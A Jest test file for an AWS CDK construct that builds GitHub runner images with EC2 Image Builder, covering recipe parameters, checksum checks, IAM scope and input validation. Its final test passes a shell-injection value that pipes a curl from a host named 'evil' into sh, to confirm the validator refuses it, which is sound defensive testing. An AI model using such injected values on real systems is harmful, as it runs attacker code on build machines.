import * as fs from 'fs';
import * as path from 'path';
import { Match, Template } from 'aws-cdk-lib/assertions';
import * as ec2 from 'aws-cdk-lib/aws-ec2';
import * as yaml from 'js-yaml';
import { validateTemplate } from '../../sandbox/aws/cloudformation-schema';
import { EndpointAccess, EphemeralRunnersProps, RunnerArchitecture, RunnerImagePipeline, RunnerMachineImage, RunnerVersion, UbuntuRelease } from '../../src';
import { synthRunners } from './support/synth';
import { TEST_CA_BUNDLE, TEST_CA_FIRST_LINE } from './support/test-ca';

function synth(props: Partial<EphemeralRunnersProps> = {}): Template {
  return synthRunners([{ name: 'linux-x64', labels: ['linux', 'x64'] }], props);
}

/** The install-runner component's parameters in the (first) recipe, by name. */
function recipeRunnerParameters(template: Template): Record<string, string> {
  const [recipe] = Object.values(template.findResources('AWS::ImageBuilder::ImageRecipe'));
  const runner = (recipe.Properties.Components as Array<{ Parameters?: Array<{ Name: string; Value: string[] }> }>).find((c) => c.Parameters);
  return Object.fromEntries(runner!.Parameters!.map((p) => [p.Name, p.Value[0]]));
}

function components(template: Template): Record<string, string> {
  return Object.fromEntries(Object.values(template.findResources('AWS::ImageBuilder::Component'))
    .map((c) => [String(c.Properties.Name).replace(/^ephemeral-runners-[0-9a-f]{10}-/, ''), String(c.Properties.Data)]));
}

describe('the runner image pipeline', () => {
  const template = synth();

  test('by default the construct builds its own image on Ubuntu 24.04 and launches from the SSM parameter the builds update', () => {
    template.hasResourceProperties('AWS::ImageBuilder::ImageRecipe', {
      ParentImage: 'ssm:/aws/service/canonical/ubuntu/server/24.04/stable/current/amd64/hvm/ebs-gp3/ami-id',
      BlockDeviceMappings: [{ DeviceName: '/dev/sda1', Ebs: Match.objectLike({ Encrypted: true, VolumeType: 'gp3' }) }],
    });
    template.hasResourceProperties('AWS::ImageBuilder::DistributionConfiguration', {
      Distributions: [Match.objectLike({
        SsmParameterConfigurations: [{ ParameterName: '/ephemeral-runners/Test/Runners/image/x64', DataType: 'aws:ec2:image' }],
      })],
    });
    const [document] = Object.values(template.findResources('AWS::SSM::Parameter')).filter((p) => String(p.Properties.Name).includes('/runner-configs/')).map((p) => JSON.parse(p.Properties.Value));
    expect(document.image).toEqual({ parameterName: '/ephemeral-runners/Test/Runners/image/x64' });
  });

  test('by default every build installs the newest runner release, checked against the server\'s version kept in SSM', () => {
    const parameters = recipeRunnerParameters(template);

    expect(parameters).toEqual({
      Version: 'latest',
      Sha256X64: 'none',
      Sha256Arm64: 'none',
      MinimumVersion: RunnerImagePipeline.DEFAULT_RUNNER_RELEASE.version,
      FloorParameter: '/ephemeral-runners/Test/Runners/image/runner-version/github-server',
      VersionParameter: '/ephemeral-runners/Test/Runners/image/runner-version/x64',
    });
    for (const name of [parameters.FloorParameter, parameters.VersionParameter]) {
      template.hasResourceProperties('AWS::SSM::Parameter', { Name: name, Type: 'String', Value: '0.0.0' });
    }
    const runner = components(template)['install-runner'];
    expect(runner).toContain("RUNNER_VERSION='{{ Version }}'");
    expect(runner).toContain("VERSION_PARAMETER='{{ VersionParameter }}' /opt/ephemeral-runners/install-runner.sh report");
  });

  test('the install script arrives in the image byte for byte, and checks the SHA-256 before it unpacks', () => {
    const doc = yaml.load(components(template)['install-runner']) as { phases: Array<{ name: string; steps: Array<{ inputs: Array<{ content?: string }> }> }> };
    const script = fs.readFileSync(path.join(__dirname, '..', '..', 'image-builder', 'install-runner.sh'), 'utf8');

    expect(doc.phases.map((p) => p.name)).toEqual(['build', 'validate', 'test']);
    expect(doc.phases[0].steps[0].inputs[0].content).toBe(`${script.trimEnd()}\n`);
    expect(script.indexOf('sha256sum --check')).toBeGreaterThan(0);
    expect(script.indexOf('sha256sum --check')).toBeLessThan(script.indexOf('tar -xzf'));
  });

  test('a pinned release is installed with its sums, by runnerVersion or the deprecated runnerRelease; both at once are refused', () => {
    const release = { version: '2.330.0', sha256X64: 'a'.repeat(64), sha256Arm64: 'b'.repeat(64) };
    const expected = { Version: '2.330.0', Sha256X64: 'a'.repeat(64), Sha256Arm64: 'b'.repeat(64), MinimumVersion: '2.330.0' };

    expect(recipeRunnerParameters(synth({ runnerImage: { runnerVersion: RunnerVersion.pinned(release) } }))).toMatchObject(expected);
    expect(recipeRunnerParameters(synth({ runnerImage: { runnerRelease: release } }))).toMatchObject(expected);
    expect(() => synth({ runnerImage: { runnerRelease: release, runnerVersion: RunnerVersion.latest() } }))
      .toThrow(/sets both runnerRelease and runnerVersion: keep runnerVersion/);
  });

  test('the build role may write the runner-version parameters of its images and read the server\'s, nothing more of SSM beyond Image Builder\'s policies', () => {
    const statements = Object.values(template.findResources('AWS::IAM::Policy'))
      .filter((p) => JSON.stringify(p.Properties.Roles).includes('BuildRole'))
      .flatMap((p) => p.Properties.PolicyDocument.Statement as Array<{ Action: string | string[]; Resource: unknown }>);

    expect(statements.map((s) => s.Action)).toEqual(['ssm:PutParameter', ['ssm:DescribeParameters', 'ssm:GetParameters', 'ssm:GetParameter', 'ssm:GetParameterHistory']]);
    expect(JSON.stringify(statements[0].Resource)).toMatch(/RunnerVersionx64/);
    expect(JSON.stringify(statements[0].Resource)).not.toMatch(/ServerRunnerVersion/);
    expect(JSON.stringify(statements[1].Resource)).toMatch(/ServerRunnerVersion/);
  });

  test('the reconciler is told where the runner versions are; it may read them and write only the server\'s', () => {
    const [reconciler] = Object.values(template.findResources('AWS::Lambda::Function'))
      .filter((f) => String(f.Properties.Description).startsWith('Sweeps pools'));
    // A Fn::Join over the parameters' Refs: resolved here to their names.
    const ssmParameters = template.findResources('AWS::SSM::Parameter');
    const [, parts] = reconciler.Properties.Environment.Variables.RUNNER_VERSION_PARAMETERS['Fn::Join'] as [string, Array<string | { Ref: string }>];
    const parameters = JSON.parse(parts.map((part) => (typeof part === 'string' ? part : ssmParameters[part.Ref].Properties.Name)).join(''));
    const statements = Object.values(template.findResources('AWS::IAM::Policy'))
      .filter((p) => JSON.stringify(p.Properties.Roles).includes('Reconciler'))
      .flatMap((p) => p.Properties.PolicyDocument.Statement as Array<{ Action: string | string[]; Resource: unknown }>)
      .filter((s) => [s.Action].flat().some((a) => a.startsWith('ssm:')) && /RunnerVersion/.test(JSON.stringify(s.Resource)));
    const writes = statements.filter((s) => [s.Action].flat().includes('ssm:PutParameter'));

    expect(parameters).toEqual({
      server: '/ephemeral-runners/Test/Runners/image/runner-version/github-server',
      x64: '/ephemeral-runners/Test/Runners/image/runner-version/x64',
    });
    expect(statements.length).toBeGreaterThanOrEqual(2);
    expect(writes).toHaveLength(1);
    expect(JSON.stringify(writes[0].Resource)).toMatch(/ServerRunnerVersion/);
    expect(JSON.stringify(writes[0].Resource)).not.toMatch(/RunnerVersionx64/);
  });

  test('the image holds the bootstrap, Docker and build tools; the bootstrap itself installs nothing', () => {
    const docs = components(template);
    const bootstrap = fs.readFileSync(path.join(__dirname, '..', '..', 'image-builder', 'bootstrap.sh'), 'utf8');
    expect(docs.bootstrap).toContain('path: /opt/ephemeral-runners/bootstrap.sh');
    expect(docs.bootstrap).toContain('              set -euo pipefail');
    expect(docs['install-tools']).toMatch(/docker\.io/);
    expect(bootstrap).not.toMatch(/apt-get|yum |dnf |snap install|pip install/);
  });

  test('every component document is YAML Image Builder can read: name, schemaVersion 1.0, phases with steps', () => {
    for (const [name, doc] of Object.entries(components(template))) {
      expect({ name, header: /^name: \S+\ndescription: .+\nschemaVersion: 1\.0\n/.test(doc) }).toEqual({ name, header: true });
      const parsed = yaml.load(doc) as { schemaVersion: number; phases: Array<{ name: string; steps: unknown[] }> };
      expect(parsed.schemaVersion).toBe(1);
      expect(parsed.phases[0]).toMatchObject({ name: 'build', steps: expect.any(Array) });
      expect(parsed.phases[0].steps.length).toBeGreaterThan(0);
    }
    // The bootstrap arrives in the image byte for byte.
    const bootstrap = yaml.load(components(template).bootstrap) as { phases: Array<{ steps: Array<{ inputs: Array<{ content: string }> }> }> };
    expect(bootstrap.phases[0].steps[0].inputs[0].content)
      .toBe(`${fs.readFileSync(path.join(__dirname, '..', '..', 'image-builder', 'bootstrap.sh'), 'utf8').trimEnd()}\n`);
  });

  test('package timers and unattended-upgrades are stopped (and a running one waited for) before the first apt-get; every apt-get waits for the dpkg lock', () => {
    type Step = { name: string; inputs: { commands?: string[] } };
    const doc = yaml.load(components(template)['install-tools']) as { phases: Array<{ name: string; steps: Step[] }> };
    const commands = doc.phases.find((p) => p.name === 'build')!.steps.flatMap((step) => step.inputs.commands ?? []);

    const firstApt = commands.findIndex((c) => /\bapt(-get)?\s/.test(c));
    const stop = commands.findIndex((c) => /systemctl disable --now .*apt-daily\.timer/.test(c));
    const wait = commands.findIndex((c) => /systemd-run --wait .*After=apt-daily\.service.*After=apt-daily-upgrade\.service/.test(c));

    expect(firstApt).toBeGreaterThan(-1);
    expect(stop).toBeGreaterThan(-1);
    expect(commands[stop]).toMatch(/apt-daily-upgrade\.timer/);
    expect(commands[stop]).toMatch(/unattended-upgrades\.service/);
    expect(stop).toBeLessThan(firstApt);
    expect(wait).toBeGreaterThan(stop);
    expect(wait).toBeLessThan(firstApt);
    for (const command of commands.filter((c) => /\bapt-get\s/.test(c))) expect(command).toMatch(/^apt-get -o DPkg::Lock::Timeout=\d+ /);
  });

  test('builds run on a schedule and on deploy; only the newest images are kept', () => {
    template.hasResourceProperties('AWS::ImageBuilder::ImagePipeline', {
      Schedule: { ScheduleExpression: 'cron(0 4 ? * sun *)', PipelineExecutionStartCondition: 'EXPRESSION_MATCH_ONLY' },
    });
    template.hasResourceProperties('AWS::ImageBuilder::LifecyclePolicy', {
      ResourceType: 'AMI_IMAGE',
      PolicyDetails: [{ Action: { Type: 'DELETE', IncludeResources: { Amis: true, Snapshots: true } }, Filter: { Type: 'COUNT', Value: 3 } }],
    });
    const start = Object.values(template.findResources('Custom::AWS'));
    expect(start).toHaveLength(1);
    expect(JSON.stringify(start[0].Properties.Create)).toMatch(/startImagePipelineExecution/);
    template.hasResourceProperties('AWS::ImageBuilder::InfrastructureConfiguration', {
      TerminateInstanceOnFailure: true,
      InstanceMetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 2 },
    });
  });

  test('every image carries the tag the lifecycle policy selects by, under the keys CloudFormation reads', () => {
    const [distribution] = Object.values(template.findResources('AWS::ImageBuilder::DistributionConfiguration'));
    const [lifecycle] = Object.values(template.findResources('AWS::ImageBuilder::LifecyclePolicy'));

    const ami = distribution.Properties.Distributions[0].AmiDistributionConfiguration;

    expect(ami.AmiTags).toEqual(lifecycle.Properties.ResourceSelection.TagMap);
    expect(ami.Name).toMatch(/^ephemeral-runners-[0-9a-f]{10}-x64-\{\{ imagebuilder:buildDate \}\}$/);
  });

  test('the pipeline\'s resources, untyped L1 properties included, are what CloudFormation\'s resource schemas accept', () => {
    const t = synth({
      runnerConfigs: [
        { name: 'x64', labels: ['linux', 'x64'] },
        { name: 'arm', labels: ['linux', 'arm64', 'graviton'], architecture: RunnerArchitecture.ARM64 },
      ],
      runnerImage: { prePulledImages: ['node:22'], caCertificatesPem: TEST_CA_BUNDLE },
    });

    expect(validateTemplate(t.toJSON()).map((f) => f.message)).toEqual([]);
  });

  test('one pipeline per architecture the configs use; 22.04 selectable; images pre-pulled; a private CA trusted', () => {
    const t = synth({
      runnerConfigs: [
        { name: 'x64', labels: ['linux', 'x64'] },
        { name: 'arm', labels: ['linux', 'arm64', 'graviton'], architecture: RunnerArchitecture.ARM64 },
      ],
      runnerImage: { ubuntuRelease: UbuntuRelease.UBUNTU_22_04, prePulledImages: ['node:22', 'ghcr.io/acme/build@sha256:' + 'a'.repeat(64)], caCertificatesPem: TEST_CA_BUNDLE, keepImages: 5 },
    });
    t.resourceCountIs('AWS::ImageBuilder::ImagePipeline', 2);
    t.hasResourceProperties('AWS::ImageBuilder::ImageRecipe', { ParentImage: Match.stringLikeRegexp('/22.04/stable/current/arm64/') });
    const docs = components(t);
    expect(docs['pre-pull']).toContain("docker pull 'node:22'");
    expect(docs['ca-certificates']).toContain('update-ca-certificates');
    expect(docs['ca-certificates']).toContain(TEST_CA_FIRST_LINE);
    t.hasResourceProperties('AWS::ImageBuilder::LifecyclePolicy', { PolicyDetails: [Match.objectLike({ Filter: { Type: 'COUNT', Value: 5 } })] });
  });

  test('builds run in the first runner subnet, or in the subnets buildSubnets selects', () => {
    const withGroups = (buildSubnets?: ec2.SubnetSelection) => synthRunners([{ name: 'linux-x64', labels: ['linux', 'x64'] }], (stack) => ({
      vpc: new ec2.Vpc(stack, 'Grouped', {
        natGateways: 0,
        subnetConfiguration: [
          { name: 'runners', subnetType: ec2.SubnetType.PRIVATE_ISOLATED },
          { name: 'build', subnetType: ec2.SubnetType.PUBLIC },
        ],
      }),
      subnets: { subnetGroupName: 'runners' },
      registerAccess: EndpointAccess.privateApi(),
      runnerImage: { buildSubnets },
    }));
    const subnetOf = (t: Template) => Object.values(t.findResources('AWS::ImageBuilder::InfrastructureConfiguration'))[0].Properties.SubnetId;

    expect(subnetOf(withGroups())).toEqual({ Ref: expect.stringMatching(/^GroupedrunnersSubnet1/) });
    expect(subnetOf(withGroups({ subnetGroupName: 'build' }))).toEqual({ Ref: expect.stringMatching(/^GroupedbuildSubnet1/) });
  });

  test('a custom image replaces the pipeline', () => {
    const t = synth({ machineImage: RunnerMachineImage.fromAmiIds('ami-0123456789abcdef0') });
    t.resourceCountIs('AWS::ImageBuilder::ImagePipeline', 0);
    const [document] = Object.values(t.findResources('AWS::SSM::Parameter')).filter((p) => String(p.Properties.Name).includes('/runner-configs/')).map((p) => JSON.parse(p.Properties.Value));
    expect(document.image).toEqual({ amiId: 'ami-0123456789abcdef0' });
    t.hasResourceProperties('AWS::EC2::LaunchTemplate', { LaunchTemplateData: Match.objectLike({ ImageId: Match.absent() }) });
  });

  test('a malformed runner checksum or image reference is refused with what to fix', () => {
    expect(() => synth({ runnerImage: { runnerVersion: RunnerVersion.pinned({ version: '2.329', sha256X64: 'abc', sha256Arm64: 'f'.repeat(64) }) } }))
      .toThrow(/runnerRelease.version "2.329" is not a version like 2.329.0; runnerRelease.sha256X64 is not a SHA-256/);
    expect(() => synth({ runnerImage: { prePulledImages: ["node:22'; curl evil | sh; '"] } })).toThrow(/prePulledImages holds entries that are not image references/);
  });
});
